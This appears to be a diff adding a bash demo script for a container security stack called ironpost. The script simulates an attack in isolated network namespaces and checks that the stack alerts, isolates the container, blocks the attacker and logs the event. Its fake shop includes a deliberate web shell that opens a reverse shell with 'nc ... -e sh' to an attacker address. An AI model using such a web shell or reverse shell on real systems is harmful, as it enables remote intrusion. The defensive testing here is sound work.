@@ -1,0 +1,152 @@
+#!/usr/bin/env bash
+# Starts the stack of docker-compose.yml as from a fresh clone, attacks a container beside it, and checks what the stack
+# does: `make demo-compose`, as root. It uses a dockerd of its own in a network namespace of its own, and a second
+# namespace for the attacker; it removes both, and everything else it made. Any check that fails ends it with 1.
+# Its arguments run in addition, in the namespace of the stack: deploy/demo/compose.sh deploy/dev/compose-checks.sh
+set -euo pipefail
+
+root=$(cd "$(dirname "$0")/../.." && pwd)
+[ "$(id -u)" = 0 ] || { echo "demo: run this as root: it makes network namespaces and starts a dockerd" >&2; exit 1; }
+work=$(mktemp -d /tmp/ipcompose.XXXXXX)
+id=ipc$$
+host_address=203.0.113.1 attacker=203.0.113.66 # TEST-NET-3, RFC 5737
+engine='' listener='' watcher=''
+
+finish() {
+  code=$?
+  trap - EXIT INT TERM
+  [ "$code" = 0 ] || diagnose || true
+  for pid in $listener $watcher; do kill "$pid" 2>/dev/null || true; done
+  if [ -n "$engine" ]; then
+    docker ps -aq | xargs -r docker rm -f >/dev/null 2>&1 || true
+    kill "$engine" 2>/dev/null && wait "$engine" 2>/dev/null || true
+  fi
+  rm -rf "/sys/fs/bpf/$id"
+  for ns in "$id-h" "$id-a"; do ip netns del "$ns" 2>/dev/null || true; done
+  findmnt -rno TARGET | grep "^$work/" | tac | xargs -r umount -l 2>/dev/null || true
+  rm -rf "$work"
+  exit "$code"
+}
+diagnose() {
+  echo "The stack when it failed:" >&2
+  compose ps >&2
+  compose logs --tail 12 >&2
+}
+trap finish EXIT INT TERM
+
+step() { printf '\n\033[1m%s\033[0m\n' "$*"; }
+on_host() { nsenter --net="/run/netns/$id-h" "$@"; }
+as_attacker() { nsenter --net="/run/netns/$id-a" "$@"; }
+compose() { docker-compose -p ironpost --project-directory "$work/clone" -f "$work/clone/docker-compose.yml" "$@"; }
+ironpost() { compose exec -T hub /usr/bin/ironpost "$@"; }
+sql() { compose exec -T postgresql sh -c "PGPASSWORD=\$(cat /run/secrets/postgresql/ironpost_viewer) psql -At -U ironpost_viewer -d ironpost -c \"$1\""; }
+until_true() { # a command, tried for 60 s
+  for _ in $(seq 120); do "$@" >/dev/null 2>&1 && return; sleep 0.5; done
+  echo "demo: timed out waiting for: $*" >&2
+  return 1
+}
+
+# The host, with an interface to the outside, and the attacker behind it.
+ip netns add "$id-h"
+ip netns add "$id-a"
+ip link add wan netns "$id-h" type veth peer name wan netns "$id-a"
+on_host sh -c "ip link set lo up; ip addr add $host_address/24 dev wan; ip link set wan up; ip route add default via 203.0.113.254"
+as_attacker sh -c "ip link set lo up; ip addr add $attacker/24 dev wan; ip link set wan up; ip route add default via $host_address"
+export DOCKER_HOST=unix://$work/docker.sock DOCKER_SOCKET=$work/docker.sock IRONPOST_AUTO_ISOLATE=true \
+  COMPOSE_HTTP_TIMEOUT=180
+nsenter --net="/run/netns/$id-h" dockerd --host "$DOCKER_HOST" --data-root "$work/docker" --exec-root "$work/exec" --pidfile "$work/docker.pid" \
+  --shutdown-timeout 2 --log-level warn >"$work/dockerd.log" 2>&1 &
+engine=$!
+until_true docker info
+
+# A fresh clone, with the programs of bin/.
+mkdir "$work/clone"
+cp -r "$root/docker-compose.yml" "$root/.dockerignore" "$root/deploy" "$work/clone/"
+mkdir "$work/clone/bin"
+cp "$root"/bin/ironpost* "$work/clone/bin/"
+cd "$work/clone"
+export POSTGRES_IMAGE=${POSTGRES_IMAGE:-postgres:16} PROMETHEUS_IMAGE=${PROMETHEUS_IMAGE:-prom/prometheus:v2.55.1}
+deploy/dev/test-images.sh "$POSTGRES_IMAGE" "$PROMETHEUS_IMAGE" busybox:latest
+cat >>.env <<END
+IRONPOST_EBPF_PIN_PATH=/sys/fs/bpf/$id
+IRONPOST_SBOM_VULN_DB_URL=
+POSTGRES_IMAGE=$POSTGRES_IMAGE
+PROMETHEUS_IMAGE=$PROMETHEUS_IMAGE
+END
+
+step "The images, built from bin/ without a network:"
+deploy/compose/prepare.sh
+deploy/compose/images.sh >"$work/build.log" 2>&1 || { tail -n 20 "$work/build.log"; exit 1; }
+docker images --format '{{.Repository}} {{.Size}}' 'ironpost/*' | sort
+step "The stack starts, from nothing:"
+compose up -d >"$work/up.log" 2>&1 || { tail -n 20 "$work/up.log"; exit 1; }
+deploy/compose/wait.sh docker-compose -p ironpost --project-directory "$work/clone" -f "$work/clone/docker-compose.yml"
+until_true ironpost status
+
+step "A web shop runs in a container beside the stack; anybody may reach it."
+cat >serve.sh <<'END'
+#!/bin/sh
+# One request: its line goes to the log of the container; the parameter cmd is executed, as by a web shell.
+read -r method target version
+echo "$PEER - - [$(date -u '+%d/%b/%Y:%H:%M:%S +0000')] \"$method $target $(echo "$version" | tr -d '\r')\" 200 57 \"-\" \"curl/8\"" >/proc/1/fd/1
+printf 'HTTP/1.0 200 OK\r\n\r\nshop\n'
+case $target in *cmd=*) (nc "$PEER" 4444 -e sh </dev/null >/dev/null 2>&1 &) ;; esac
+END
+docker run -d --name shop --restart always -p 80:80 -v "$PWD/serve.sh:/serve.sh:ro" busybox:latest \
+  sh -c 'while :; do PEER='"$attacker"' nc -l -p 80 -e sh /serve.sh; done' >/dev/null
+shop() { as_attacker busybox wget -q -T 3 -O - "http://$host_address/$1"; }
+until_true shop ""
+until_true sh -c "$(declare -f ironpost compose); work=$work; ironpost status --json | grep -q '\"containers\":1[0-9]'"
+
+nats=$root/bin/nats
+if [ -x "$nats" ]; then
+  nsenter --net="/run/netns/$id-h" "$nats" --server 127.0.0.1:4222 sub ironpost.alerts --count 1 >"$work/nats.log" 2>&1 &
+  watcher=$!
+  until_true grep -q Subscribing "$work/nats.log"
+fi
+nsenter --net="/run/netns/$id-a" busybox nc -l -p 4444 >"$work/shell.log" 2>&1 &
+listener=$!
+
+step "An attacker uses a web shell, which connects back to the attacker."
+shop 'uploads/x.php?cmd=nc' || true
+
+held() { ironpost quarantine list | grep -q ' held '; }
+until_true held
+step "Alert, isolation, and what PostgreSQL holds:"
+ironpost alerts --severity high
+ironpost quarantine list
+state=$(docker inspect --format '{{.State.Status}} {{len .NetworkSettings.Networks}}' shop)
+[ "$state" = "paused 0" ] || { echo "demo: the shop is \"$state\", want paused with 0 networks" >&2; exit 1; }
+echo "shop: paused, on 0 networks"
+blocked() { ironpost blocklist list | grep -q "$attacker"; }
+until_true blocked
+step "The kernel of the host drops the attacker's packets:"
+dropped() {
+  as_attacker busybox ping -c 1 -W 1 "$host_address" && return 1
+  on_host busybox wget -q -T 3 -O - http://127.0.0.1:9465/metrics | grep -E '^ironpost_ebpf_engine_[a-z_]*(blocked|dropped)[a-z_]*(\{[^}]*\})? [1-9]' >"$work/dropped"
+}
+until_true dropped
+ironpost blocklist list
+head -n 3 "$work/dropped"
+rows() { [ "$(sql 'SELECT count(*) FROM ironpost.alerts')" -ge 1 ] && [ "$(sql 'SELECT count(*) FROM ironpost.actions')" -ge 3 ] && [ "$(sql "SELECT count(*) FROM ironpost.logs WHERE record::text LIKE '%x.php%'")" -ge 1 ]; }
+until_true rows
+printf 'rows: %s alerts, %s actions, %s lines\n' "$(sql 'SELECT count(*) FROM ironpost.alerts')" "$(sql 'SELECT count(*) FROM ironpost.actions')" "$(sql 'SELECT count(*) FROM ironpost.logs')"
+if [ -n "$watcher" ]; then
+  step "Seen on the host with nats --server 127.0.0.1:4222 sub ironpost.alerts:"
+  until_true grep -q '"id"' "$work/nats.log"
+  grep -o '"title":"[^"]*"' "$work/nats.log" | head -n1
+fi
+
+step "An operator releases the shop. Behind the socket proxy that is a restart:"
+started=$(docker inspect --format '{{.State.StartedAt}}' shop)
+ironpost release shop --reason "the shell is removed"
+restarted() { [ "$(docker inspect --format '{{.State.Status}} {{len .NetworkSettings.Networks}}' shop)" = "running 1" ]; }
+until_true restarted
+[ "$(docker inspect --format '{{.State.StartedAt}}' shop)" != "$started" ] || { echo "demo: the shop was not restarted" >&2; exit 1; }
+docker inspect --format 'shop: {{.State.Status}}, on {{len .NetworkSettings.Networks}} network' shop
+
+if [ $# -gt 0 ]; then
+  export work id
+  on_host "$@"
+fi
+printf '\nEnd of the demo; everything it created is removed.\n'
